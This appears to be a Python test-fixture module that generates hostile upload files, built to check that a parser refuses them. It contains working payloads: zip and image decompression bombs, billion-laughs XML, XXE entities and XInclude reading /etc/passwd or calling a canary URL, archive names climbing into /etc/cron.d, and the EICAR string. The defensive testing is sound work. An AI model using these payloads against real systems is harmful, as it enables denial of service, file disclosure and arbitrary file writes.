"""Files that want to harm whoever opens them, made here: no byte of a real one is kept in the tree.

Each is to be refused in words at whatever door it comes. The addresses in them are the canary's.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.photographs import shot

_TYPES = "<Types/>"
_BOOK = '<w xmlns:r="r"><sheet r:id="1"/></w>'
_RELS = '<r><Relationship Id="1" Target="s.xml"/></r>'
_HEAD = "<s><sheetData><row><c t='inlineStr'><is><t>姓名</t></is></c></row></sheetData></s>"
_PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50) + b"PE\x00\x00"
_EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"

Made = Callable[[str], bytes]
"""Makes a file whose address, where it holds one, is the canary's."""


def book(parts: Mapping[str, str | bytes] | None = None, *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A workbook of four parts, with these in place of its own or beside them."""
    every: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES,
        "xl/workbook.xml": _BOOK,
        "xl/_rels/workbook.xml.rels": _RELS,
        "xl/s.xml": _HEAD,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as packed:
        for name, part in (every | dict(parts or {})).items():
            packed.writestr(name, part)
    return out.getvalue()


def _sheet(doctype: str, cell: str = "x", more: str = "") -> bytes:
    said = f'{doctype}<s xmlns:xi="http://www.w3.org/2001/XInclude"><sheetData><row><c><v>{cell}</v></c></row>{more}'
    return book({"xl/s.xml": said + "</sheetData></s>"})


def _laughs(_url: str) -> bytes:
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return _sheet(f'<!DOCTYPE s [<!ENTITY a0 "ha">{steps}]>', "&a9;")


def _quadratic(_url: str) -> bytes:
    return _sheet(f'<!DOCTYPE s [<!ENTITY a "{"h" * 50_000}">]>', "&a;" * 20_000)


def _rows(rows: int, cells: str = '<c><v>1</v></c><c t="s"><v>0</v></c>') -> Made:
    def made(_url: str) -> bytes:
        line = f"<row>{cells}</row>"
        return book({"xl/s.xml": "<s><sheetData>" + line * rows + "</sheetData></s>",
                     "xl/sharedStrings.xml": "<sst><si><t>x</t></si></sst>"})  # fmt: skip

    return made


def _costly(_url: str) -> bytes:
    """Small, hardly packed, and dear to read: many short cells with texts of their own."""
    chance = random.Random(30)
    cells = "".join(
        f'<row><c t="inlineStr"><is><t>{chance.getrandbits(48):x}</t></is></c></row>' for _ in range(330_000)
    )
    return book({"xl/s.xml": f"<s><sheetData>{cells}</sheetData></s>"})


def _nested(_url: str) -> bytes:
    inner = b"0" * 1_000_000
    for depth in range(6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
            for number in range(4):
                packed.writestr(f"{depth}-{number}.zip", inner)
        inner = out.getvalue()
    return inner


def _zeros(size: int, packing: int = zipfile.ZIP_DEFLATED) -> Made:
    return lambda _url: book({"xl/s.xml": bytes(size)}, packing=packing)


def _lying(_url: str) -> bytes:
    """A part that is a hundred times as long as its entry says."""
    whole = bytearray(book({"xl/s.xml": "<s>" + " " * 90_000_000 + "</s>"}))
    at = whole.rindex(b"xl/s.xml") - 46
    struct.pack_into("<I", whole, at + 24, 900)
    return bytes(whole)


def _named(name: str, content: bytes = b"x", mode: int = 0) -> Made:
    def made(_url: str) -> bytes:
        out = io.BytesIO(book())
        with zipfile.ZipFile(out, "a") as packed:
            about = zipfile.ZipInfo(name)
            about.external_attr = mode << 16
            packed.writestr(about, content)
        return out.getvalue()

    return made


def _encrypted(_url: str) -> bytes:
    whole = bytearray(book())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = whole.find(mark)
        while place >= 0:
            whole[place + at] |= 1
            place = whole.find(mark, place + 4)
    return bytes(whole)


def _twice(_url: str) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _named("xl/s.xml")("")


def _deep(_url: str) -> bytes:
    return book({"xl/s.xml": "<a>" * 400_000})


def _attributes(_url: str) -> bytes:
    said = " ".join(f'a{n}="{n}"' for n in range(200_000))
    return book({"xl/s.xml": f"<s><sheetData><row><c {said}/></row></sheetData></s>"})


def _png(width: int, height: int) -> Made:
    def made(_url: str) -> bytes:
        def chunk(kind: bytes, said: bytes) -> bytes:
            return struct.pack(">I", len(said)) + kind + said + struct.pack(">I", zlib.crc32(kind + said))

        about = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        return b"\x89PNG\r\n\x1a\n" + about + chunk(b"IDAT", zlib.compress(bytes(10_000_000), 9)) + chunk(b"IEND", b"")

    return made


def _jpeg_bomb(_url: str) -> bytes:
    whole = bytearray(shot())
    at = whole.index(b"\xff\xc0") + 5
    struct.pack_into(">HH", whole, at, 60_000, 60_000)
    return bytes(whole)


def _text(said: str) -> Made:
    return lambda url: said.replace("URL", url).encode()


def _bytes(said: bytes) -> Made:
    return lambda _url: said


FILES: dict[str, Made] = {
    "nested zip": _nested,
    "zeros of 500 MB": _zeros(500_000_000),
    "zeros packed by bzip2": _zeros(300_000_000, zipfile.ZIP_BZIP2),
    "zeros packed by LZMA": _zeros(300_000_000, zipfile.ZIP_LZMA),
    "a length that lies": _lying,
    "400,000 rows": _rows(400_000),
    "small and dear to read": _costly,
    "a row of 300,000 cells": _rows(1, "<c><v>1</v></c>" * 300_000),
    "two million strings": lambda _url: book(
        {"xl/sharedStrings.xml": "<sst>" + "<si><t>a</t></si>" * 2_000_000 + "</sst>"}
    ),
    "one cell of 70 MB": lambda _url: _sheet("", "1" * 70_000_000),
    "400,000 levels": _deep,
    "200,000 attributes": _attributes,
    "billion laughs": _laughs,
    "quadratic entity": _quadratic,
    "entity of a file": lambda _url: _sheet('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "entity of an address": lambda url: _sheet(f'<!DOCTYPE s [<!ENTITY x SYSTEM "{url}">]>', "&x;"),
    "entity of parameters": lambda url: _sheet(f'<!DOCTYPE s [<!ENTITY % x SYSTEM "{url}">%x;]>'),
    "declared elsewhere": lambda url: book({"[Content_Types].xml": f'<!DOCTYPE Types SYSTEM "{url}"><Types/>'}),
    "declared elsewhere, strings": lambda url: book({"xl/sharedStrings.xml": f'<!DOCTYPE s SYSTEM "{url}"><sst/>'}),
    "inclusion of a file": lambda _url: _sheet("", "x", '<xi:include href="file:///etc/passwd" parse="text"/>'),
    "inclusion of an address": lambda url: _sheet("", "x", f'<xi:include href="{url}"/>'),
    "a style sheet": lambda url: _sheet(f'<?xml-stylesheet type="text/xsl" href="{url}"?>'),
    "a sheet elsewhere": lambda url: book(
        {"xl/_rels/workbook.xml.rels": f'<r><Relationship Id="1" Target="{url}" TargetMode="External"/></r>'}
    ),
    "a sheet outside": lambda _url: book(
        {"xl/_rels/workbook.xml.rels": '<r><Relationship Id="1" Target="../../../../etc/passwd"/></r>'}
    ),
    "a name that climbs": _named("../../../../etc/cron.d/x"),
    "a name that climbs backwards": _named("xl\\..\\..\\..\\x.exe"),
    "a name from the root": _named("/etc/cron.d/x"),
    "a name on a drive": _named("C:/Windows/x.exe"),
    "a link in the file": _named("xl/media/x", b"/etc/passwd", 0o120777),
    "macros": _named("xl/vbaProject.bin"),
    "macros by their type": lambda _url: book(
        {"[Content_Types].xml": '<Types><Override ContentType="application/x.macroEnabled.main+xml"/></Types>'}
    ),
    "macros of Excel 4": _named("xl/macrosheets/sheet1.xml"),
    "an embedded object": _named("xl/embeddings/oleObject1.bin", _PE),
    "a control": _named("xl/activeX/activeX1.bin", _PE),
    "an old .xls": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)),
    "an encrypted package": _bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + "EncryptedPackage".encode("utf-16le")
    ),
    "a password": _encrypted,
    "a part twice": _twice,
    "cut short": lambda _url: book()[:-30],
    "PDF and zip": lambda _url: b"%PDF-1.7\n\xde\xad" + book(),
    "GIF and zip": lambda _url: b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + book(),
    "JPEG and zip": lambda _url: shot()[:-2] + book(),
    "program and zip": lambda _url: _PE + book(),
    "zip and page": lambda _url: (
        book({"[Content_Types].xml": "<html><script>x</script></html>"}) + b"<script>x</script>"
    ),
    "EICAR": _text(_EICAR),
    "EICAR in a workbook": _named("xl/eicar.com", _EICAR.encode()),
    "a field without end": lambda _url: '姓名,金额\n张,"'.encode() + b"a" * 9_000_000,
    "a field of 2 GB, so it says": lambda _url: b"2147483648:" + b"a" * 1_000_000 + b"\n" * 10,
    "five million cells": lambda _url: b"," * 5_000_000,
    "nulls": lambda _url: b"a,b\n\x00\x00,1\n",
    "half a character": _bytes(b"\xff\xfea"),
    "a page with a script": _text('<html><script src="URL"></script><img src="URL"></html>'),
    "a drawing that asks": _text(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "URL">]><svg><text>&x;</text></svg>'
    ),
    "a program": _bytes(_PE * 20),
    "gzip of zeros": lambda _url: gzip.compress(bytes(100_000_000)),
    "xz of zeros": lambda _url: lzma.compress(bytes(100_000_000)),
    "bzip2 of zeros": lambda _url: bz2.compress(bytes(100_000_000)),
    "points without number": _png(60_000, 60_000),
    "points that pass and are not there": _png(9_000, 7_000),
    "JPEG of 3,600 million points": _jpeg_bomb,
    "WebP cut": _bytes(b"RIFF\xff\xff\xff\x7fWEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00" + b"\xff" * 6),
    "TIFF": _bytes(b"II*\x00\xff\xff\xff\x7f" + bytes(100)),
}
"""Each by what it is."""
CHEAP = ("nested zip", "entity of an address", "a name that climbs", "macros", "EICAR", "JPEG of 3,600 million points")
"""Those that the test command tries."""
